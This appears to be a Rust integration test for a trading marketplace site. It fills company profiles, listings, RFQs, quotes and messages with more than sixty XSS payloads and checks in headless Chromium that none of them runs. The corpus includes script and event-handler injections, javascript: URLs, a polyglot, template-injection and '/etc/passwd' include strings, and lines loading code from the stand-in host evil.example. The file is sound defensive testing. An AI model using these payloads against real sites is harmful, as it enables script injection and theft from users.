//! Scripts in texts: what companies type is shown to others, and must never be anything but text in their browsers.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::path::Path;
use std::sync::Mutex;

use serde_json::{Value, json};

use crate::browser::{chromium, document};
use crate::support::{Client, Kind, Party, World, market, run};

/// Texts that become code where a page does not escape them: in text, in an attribute, in a script, a style or an address.
const CORPUS: &[&str] = &[
    "<script>console.log(70707)</script>",
    "<ScRiPt>console.log(70707)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>console.log(70707)</script>",
    "</title><script>console.log(70707)</script>",
    "</textarea><script>console.log(70707)</script>",
    "</style><script>console.log(70707)</script>",
    "<<script>console.log(70707)//<</script>",
    "<script>console.log(70707)//",
    "<img src=x onerror=console.log(70707)>",
    "<img src=x onerror=console.log(70707)//",
    "<img src=`x`onerror=console.log(70707)>",
    "<img/src=\"x\"/onerror=\"console.log(70707)\">",
    "\"><img src=x onerror=console.log(70707)>",
    "'><img src=x onerror=console.log(70707)>",
    "\" onmouseover=\"console.log(70707)\" autofocus onfocus=\"console.log(70707)",
    "' onfocus='console.log(70707)' autofocus='",
    "\" autofocus onfocus=console.log(70707) x=\"",
    "<svg onload=console.log(70707)>",
    "<svg/onload=console.log(70707)>",
    "<svg><script>console.log&#40;70707&#41;</script></svg>",
    "<svg><animate onbegin=console.log(70707) attributeName=x dur=1s>",
    "<math><mi xlink:href=\"javascript:console.log(70707)\">x</mi></math>",
    "<body onload=console.log(70707)>",
    "<iframe src=javascript:console.log(70707)></iframe>",
    "<iframe srcdoc='<script>console.log(70707)</script>'></iframe>",
    "<object data=javascript:console.log(70707)></object>",
    "<embed src=javascript:console.log(70707)>",
    "<a href=javascript:console.log(70707)>x</a>",
    "<a href=\"jav&#x09;ascript:console.log(70707)\">x</a>",
    "<form action=javascript:console.log(70707)><button>x</button></form>",
    "<input autofocus onfocus=console.log(70707)>",
    "<select autofocus onfocus=console.log(70707)></select>",
    "<details open ontoggle=console.log(70707)>x</details>",
    "<video><source onerror=console.log(70707)></video>",
    "<audio src=x onerror=console.log(70707)></audio>",
    "<marquee onstart=console.log(70707)>x</marquee>",
    "<meta http-equiv=refresh content=\"0;url=javascript:console.log(70707)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:console.log(70707))\">x</div>",
    "<div style=width:expression(console.log(70707))>x</div>",
    "<xss id=x tabindex=1 onfocus=console.log(70707)></xss>",
    "<template><script>console.log(70707)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=console.log(70707)>\">",
    "<!--><img src=x onerror=console.log(70707)>-->",
    "<![CDATA[<script>console.log(70707)</script>]]>",
    "<?xml version=\"1.0\"?><x onload=console.log(70707)>",
    "{{constructor.constructor('console.log(70707)')()}}",
    "${console.log(70707)}",
    "{% include \"/etc/passwd\" %}",
    "';console.log(70707);//",
    "\";console.log(70707);//",
    "\\\";console.log(70707);//",
    "javascript:console.log(70707)",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=console.log(70707) )//",
    "--></script></title></style>\"/</textarea><img src=x onerror=console.log(70707)>",
    "&lt;script&gt;console.log(70707)&lt;/script&gt;",
    "&#60;script&#62;console.log(70707)&#60;/script&#62;",
    "%3Cscript%3Econsole.log(70707)%3C/script%3E",
    "\u{ff1c}script\u{ff1e}console.log(70707)\u{ff1c}/script\u{ff1e}",
];

/// The database has no part in this.
#[test]
fn user_text_is_never_executed() {
    assert!(CORPUS.len() >= 60);
    run(Kind::Sqlite, |world: &World| {
        let Some(chromium) = chromium() else { return };
        look_at_all(world, &chromium);
    });
}

#[test]
fn api_reference_page_works() {
    run(Kind::Sqlite, |world: &World| {
        let Some(chromium) = chromium() else { return };
        let (document, complaints) = document(&chromium, &format!("{}/api/docs/", world.base));
        assert_eq!(complaints, "");
        assert!(document.contains("/api/v1/listings"), "the operations are not shown");
    });
}

/// So many of the texts as fit, from the n-th on.
fn some(n: usize, most: usize) -> String {
    let mut text = String::new();
    for one in CORPUS.iter().cycle().skip(n % CORPUS.len()).take(CORPUS.len()) {
        if text.chars().count() + one.chars().count() < most {
            text.push_str(one);
            text.push(' ');
        }
    }
    text.trim_end().to_owned()
}

fn set(value: &mut Value, member: &str, text: String) {
    value[member] = json!(text);
}

/// A trade all of whose words are the corpus; answers the pages of it, for everyone and for the buyer.
fn trade(world: &World, buyer: &Party, supplier: &Party) -> (Vec<String>, Vec<String>) {
    for (n, party) in [buyer, supplier].into_iter().enumerate() {
        let words = json!({"profile": some(n * 7, 4_000), "legal_name": some(n + 3, 180)});
        party.patch(&format!("/companies/{}", party.company), &words).expect(200);
    }
    let mut listing = market::listing("CODE-1");
    for (n, (member, most)) in
        [("name", 280), ("description", 12_000), ("brand", 90), ("packaging", 180)].iter().enumerate()
    {
        set(&mut listing, member, some(n * 11, *most));
    }
    let attributes = CORPUS.iter().enumerate().map(|(n, text)| (format!("{n} {text}"), json!(text)));
    listing["attributes"] = Value::Object(attributes.collect());
    let listing = supplier.publish_listing(&listing);
    let mut rfq = market::rfq("Brass ball valves");
    set(&mut rfq, "title", format!("Brass ball valves {}", some(20, 200)));
    set(&mut rfq, "specification", some(0, 8_000));
    set(&mut rfq, "destination_place", some(30, 80));
    let rfq = buyer.publish_rfq(&rfq);
    world.drain();
    let question = json!({"question": some(12, 1_500)});
    let question = supplier.post(&format!("/rfqs/{rfq}/questions"), &question).expect(201).id();
    let answer = json!({"answer": some(24, 1_500)});
    buyer.post(&format!("/rfqs/{rfq}/questions/{question}/answer"), &answer).expect(200);
    let mut quote = market::quote("3.40");
    set(&mut quote, "message", some(36, 1_800));
    set(&mut quote, "incoterm_place", some(40, 80));
    let quote = supplier.submit_quote(&rfq, &quote);
    let proposal = json!({"supplier": supplier.company, "buyer": buyer.company, "note": some(48, 1_800)});
    let partnership = buyer.post("/partnerships", &proposal).expect(201).id();
    supplier.act(&format!("/partnerships/{partnership}/confirm")).expect(200);
    let mut record = market::record();
    set(&mut record, "description", some(5, 280));
    let record = supplier.post(&format!("/partnerships/{partnership}/records"), &record).expect(201).id();
    world.drain();
    let typed = |text: &str| serde_urlencoded::to_string([("q", text)]).unwrap();
    let public = vec![
        "/".to_owned(),
        format!("/listings/{listing}"),
        format!("/companies/{}", supplier.company),
        format!("/rfqs/{rfq}"),
        "/search?q=valve&scope=rfqs".to_owned(),
        format!("/search?{}", typed(CORPUS[13])),
        format!("/search?{}", typed(&some(14, 400))),
        format!("/customs?{}", serde_urlencoded::to_string([("scheme", CORPUS[14]), ("number", CORPUS[13])]).unwrap()),
        format!("/no/such/{}", CORPUS[13].replace([' ', '<', '>', '"'], "%22")),
        format!("/sign-in?{}", serde_urlencoded::to_string([("next", "javascript:console.log(70707)")]).unwrap()),
    ];
    let own = vec![
        format!("/desk/buying/rfqs/{rfq}"),
        format!("/desk/buying/rfqs/{rfq}?tab=questions"),
        format!("/desk/buying/rfqs/{rfq}/matches"),
        format!("/desk/buying/rfqs/{rfq}/compare"),
        format!("/desk/buying/rfqs/{rfq}/edit"),
        format!("/quotes/{quote}"),
        format!("/quotes/{quote}/accept"),
        format!("/partnerships/{partnership}"),
        format!("/records/{record}"),
        "/account/company".to_owned(),
    ];
    (public, own)
}

fn look_at_all(world: &World, chromium: &Path) {
    let (buyer, supplier) = (world.buyer(), world.supplier());
    let (public, own) = trade(world, &buyer, &supplier);
    let signed_in = with_cookie(&world.base, &world.browser(&buyer.email));
    let addresses = public.iter().map(|path| format!("{}{path}", world.base));
    let addresses =
        Mutex::new(addresses.chain(own.iter().map(|path| format!("{signed_in}{path}"))).collect::<Vec<_>>());
    let complaints = Mutex::new(Vec::new());
    std::thread::scope(|scope| {
        for _ in 0..3 {
            scope.spawn(|| {
                loop {
                    let Some(address) = addresses.lock().unwrap().pop() else { return };
                    let (document, said) = document(chromium, &address);
                    if !said.is_empty() || !document.contains("</html>") {
                        complaints.lock().unwrap().push(format!("{address}: {said}"));
                    }
                }
            });
        }
    });
    let complaints = complaints.into_inner().unwrap();
    assert!(complaints.is_empty(), "{complaints:#?}");
}

/// The address of a stand-in for the server that adds the person's cookie to every request, as their browser would.
fn with_cookie(base: &str, browser: &Client) -> String {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    let server = base.strip_prefix("http://").unwrap().to_owned();
    let cookie = format!("sid={}", browser.cookie("sid").expect("somebody is signed in"));
    std::thread::spawn(move || {
        for client in listener.incoming().flatten() {
            let (server, cookie) = (server.clone(), cookie.clone());
            std::thread::spawn(move || drop(pass_on(client, &server, &cookie)));
        }
    });
    address
}

/// One request and its answer; the browsers here only read.
fn pass_on(mut client: TcpStream, server: &str, cookie: &str) -> std::io::Result<()> {
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        let mut byte = [0];
        client.read_exact(&mut byte)?;
        head.push(byte[0]);
    }
    let head = String::from_utf8_lossy(&head).into_owned();
    let kept = head.lines().filter(|line| !line.to_ascii_lowercase().starts_with("connection:") && !line.is_empty());
    let kept = kept.collect::<Vec<_>>().join("\r\n");
    let mut upstream = TcpStream::connect(server)?;
    upstream.write_all(format!("{kept}\r\nCookie: {cookie}\r\nConnection: close\r\n\r\n").as_bytes())?;
    std::io::copy(&mut upstream, &mut client)?;
    Ok(())
}
